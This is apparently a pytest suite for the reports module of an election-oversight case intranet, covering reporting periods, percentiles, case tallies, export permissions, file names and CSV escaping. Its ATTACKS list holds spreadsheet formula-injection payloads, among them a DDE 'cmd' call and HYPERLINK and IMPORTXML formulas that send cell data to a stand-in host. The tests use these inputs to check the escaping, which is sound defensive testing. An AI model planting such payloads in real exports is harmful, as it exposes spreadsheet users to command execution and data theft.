"""Periods, percentiles, tallies, and what may stand in a cell."""

import datetime as dt
from collections import Counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from intranet.base.actor import Actor, ActorKind, Party, Role
from intranet.cases.classes import FollowUp, Target, follow_up
from intranet.cases.rules import OPEN_STATES, Outcome, State
from intranet.reports import rules
from intranet.reports.rules import FileKind, Line, Period, Span, Table, WaitsFor

DAY = dt.date
FRIDAY = DAY(2026, 11, 20)


@pytest.mark.parametrize(
    ("span", "today", "first", "last"),
    [
        (Span.WEEK, FRIDAY, DAY(2026, 11, 16), DAY(2026, 11, 22)),
        (Span.WEEK, DAY(2026, 11, 16), DAY(2026, 11, 16), DAY(2026, 11, 22)),
        (Span.WEEK, DAY(2027, 1, 1), DAY(2026, 12, 28), DAY(2027, 1, 3)),
        (Span.MONTH, FRIDAY, DAY(2026, 11, 1), DAY(2026, 11, 30)),
        (Span.MONTH, DAY(2028, 2, 5), DAY(2028, 2, 1), DAY(2028, 2, 29)),
        (Span.QUARTER, FRIDAY, DAY(2026, 10, 1), DAY(2026, 12, 31)),
        (Span.QUARTER, DAY(2026, 3, 31), DAY(2026, 1, 1), DAY(2026, 3, 31)),
        (Span.OWN, FRIDAY, DAY(2026, 11, 1), DAY(2026, 11, 30)),
    ],
)
def test_a_span_is_the_whole_week_month_or_quarter_around_a_day(span, today, first, last):
    assert rules.period_of(span, today) == Period(first, last)


def test_a_month_falls_into_its_weeks_cut_at_both_ends():
    steps = rules.steps(Period(DAY(2026, 11, 1), DAY(2026, 11, 30)))
    assert steps[0] == Period(DAY(2026, 11, 1), DAY(2026, 11, 1))  # a Sunday
    assert steps[1] == Period(DAY(2026, 11, 2), DAY(2026, 11, 8))
    assert steps[-1] == Period(DAY(2026, 11, 30), DAY(2026, 11, 30))
    assert sum(step.days for step in steps) == 30


def test_a_year_falls_into_its_months():
    steps = rules.steps(Period(DAY(2026, 1, 15), DAY(2026, 12, 31)))
    assert [step.first for step in steps[:2]] == [DAY(2026, 1, 15), DAY(2026, 2, 1)]
    assert len(steps) == 12


def test_every_day_is_counted_in_one_step_and_days_outside_in_none():
    by_day = {DAY(2026, 11, 2): 3, DAY(2026, 11, 8): 1, DAY(2026, 11, 9): 2, DAY(2026, 12, 1): 9}
    counted = rules.per_step(by_day, Period(DAY(2026, 11, 2), DAY(2026, 11, 15)))
    assert [number for _step, number in counted] == [4, 2]


@pytest.mark.parametrize(
    ("days", "median", "ninth"),
    [
        ([], None, None),
        ([4], 4, 4),
        ([1, 9], 1, 9),
        ([3, 1, 2], 2, 3),
        (list(range(1, 11)), 5, 9),
        ([0] * 9 + [30], 0, 0),
        ([0] * 8 + [30] * 2, 0, 30),
    ],
)
def test_percentiles_by_nearest_rank(days, median, ninth):
    counted = Counter(days)
    assert (rules.percentile(counted, 0.5), rules.percentile(counted, 0.9)) == (median, ninth)


def test_a_value_counted_zero_times_is_never_a_percentile():
    assert rules.percentile({1: 0, 2: 1}, 0.5) == 2


@given(st.lists(st.integers(0, 400), min_size=1))
def test_a_percentile_is_one_of_the_values_and_divides_them_as_it_says(days):
    found = rules.percentile(Counter(days), 0.9)
    assert found in days
    assert sum(day <= found for day in days) >= 0.9 * len(days)
    assert sum(day < found for day in days) < 0.9 * len(days)


def test_groups_are_added_up_by_row_and_column():
    table = rules.cross([("a", 1, 2), ("a", 1, 3), ("a", 2, 1), ("b", 2, 7)])
    assert table == {"a": Counter({1: 5, 2: 1}), "b": Counter({2: 7})}


@pytest.mark.parametrize("state", OPEN_STATES)
def test_every_open_case_waits_for_somebody(state):
    outside = {
        State.AWAITING_COMPLETION: WaitsFor.COMPLAINANT,
        State.REFERRED: WaitsFor.INSTITUTION,
        State.DELEGATED: WaitsFor.OTHER_LEVEL,
    }
    assert rules.waits_for(state, assigned=True) is outside.get(state, WaitsFor.OFFICER)
    assert rules.waits_for(state, assigned=False) is outside.get(state, WaitsFor.NOBODY)


@pytest.mark.parametrize("outcome", [None, *Outcome])
@pytest.mark.parametrize("state", State)
def test_every_case_is_in_one_column_of_the_recap(state, outcome):
    assert follow_up(state, outcome) in FollowUp


@pytest.mark.parametrize(
    ("state", "outcome", "column"),
    [
        (State.RECEIVED, None, FollowUp.IN_STUDY),
        (State.PLENARY, None, FollowUp.IN_STUDY),
        (State.HANDLING, None, FollowUp.HANDLING),
        (State.MONITORING, None, FollowUp.HANDLING),
        (State.DELEGATED, None, FollowUp.REFERRED),
        (State.CLOSED, Outcome.REFERRED_FINAL, FollowUp.REFERRED),
        (State.CLOSED, Outcome.CONTENT_REMOVED, FollowUp.REMOVED),
        (State.CLOSED, Outcome.CLARIFIED, FollowUp.CLARIFIED),
        (State.CLOSED, Outcome.VIOLATION_SANCTIONED, FollowUp.SANCTIONED),
        (State.CLOSED, Outcome.DUPLICATE, FollowUp.NOT_PURSUED),
    ],
)
def test_the_column_says_how_a_case_ended_else_where_it_stands(state, outcome, column):
    assert follow_up(state, outcome) is column


@pytest.mark.parametrize("kind", [Span, WaitsFor, FileKind, Target, FollowUp])
def test_everything_that_is_shown_has_a_name(kind):
    labels = [member.label for member in kind]
    assert all(labels)
    assert len(set(labels)) == len(labels)


def test_a_chart_draws_every_line_but_the_total_and_what_is_no_number():
    lines = [Line("a", ("x", 3), {}), Line("b", ("x", 5), {}), Line("c", ("x", "–"), {}), Line("sum", ("", 8), {}, total=True)]
    assert Table("h", ("", "", "n"), lines, chart="bars", charted=1).points == [("a", 3), ("b", 5)]


@pytest.mark.parametrize("role", Role)
def test_officers_and_heads_of_both_parties_may_export_and_nobody_else(role):
    actor = Actor(ActorKind.STAFF, "x", "X", role.party or Party.DISKOMINFO, frozenset([role]))
    workers = {Role.BAWASLU_OFFICER, Role.BAWASLU_COMMISSIONER, Role.DISKOMINFO_OFFICER, Role.DISKOMINFO_HEAD}
    assert rules.may_export(actor) is (role in workers)


ATTACKS = [
    "=1+1",
    "+62 812",
    "-3 derajat",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab",
    "  =1+1",
    "'=1+1",
    '"=1+1"',
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://jahat.example/?x="&A1,"klik")',
    '=IMPORTXML(CONCAT("https://jahat.example/",A1),"//a")',
    "\x00=1+1",
    "\x1b=1+1",
]
WITHIN = ["a,=1+1", "a;=1+1", "a\t=1+1", 'a,"=1+1', "a; +1", "a|@x", "a,'-1,b", "a\n,=1+1"]


def cells_as_read(text: str, separator: str) -> list[str]:
    """The cells a program sees that cuts a written line at ``separator`` and takes no notice of quotes."""
    return [cell.strip(' "\t') for cell in text.split(separator)]


@pytest.mark.parametrize("attack", [*ATTACKS, *WITHIN])
def test_no_cell_of_a_csv_begins_like_a_formula(attack):
    safe = rules.csv_safe(attack)
    for separator in (";", ",", "\t", "|", "\n"):
        for cell in cells_as_read(safe, separator):
            assert not cell.startswith(tuple("=+-@＝＋－＠\t\r\n")), (safe, separator)


@given(st.text(alphabet="=+-@a1 ,;\t\r\n'\"|＝", max_size=12))
def test_whatever_is_written_begins_no_formula_at_any_separator(text):
    safe = rules.csv_safe(text)
    for separator in (";", ",", "\t", "|", "\n"):
        for cell in cells_as_read(safe, separator):
            assert not cell.startswith(tuple("=+-@＝＋－＠\t\r\n"))


@pytest.mark.parametrize("plain", ["", "Akun @contoh menyebar kabar - bohong", "1 = 1", "https://contoh.id/?a=1&b=-2", "a, b; c"])
def test_an_ordinary_text_is_left_as_it_is(plain):
    assert rules.csv_safe(plain) == plain


def test_lines_of_a_csv_cell_become_one_and_control_characters_go():
    assert rules.csv_safe("satu\r\ndua\x07\rtiga") == "satu dua tiga"
    assert rules.clean("satu\r\ndua\x07\ttiga\ufffe") == "satu\ndua\ttiga"


def test_the_name_of_a_file_tells_when_who_what_for_and_how_many():
    at = dt.datetime(2026, 11, 20, 9, 30)  # noqa: DTZ001 - the office's own clock, as written
    name = rules.file_name(FileKind.CSV, at, "Budi Contoh, S.Kom", "Rapat/koordinasi ../é Triwulan IV", 12)
    assert name == "perkara_2026-11-20-0930_budi-contoh-s-kom_rapat-koordinasi-e-triwulan-iv_12-baris.csv"
    assert rules.file_name(FileKind.XLSX, at, "李", "x" * 300, 1).endswith(f"__{'x' * 40}_1-baris.xlsx")
    assert {kind.mime for kind in FileKind} == {
        "text/csv",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    }
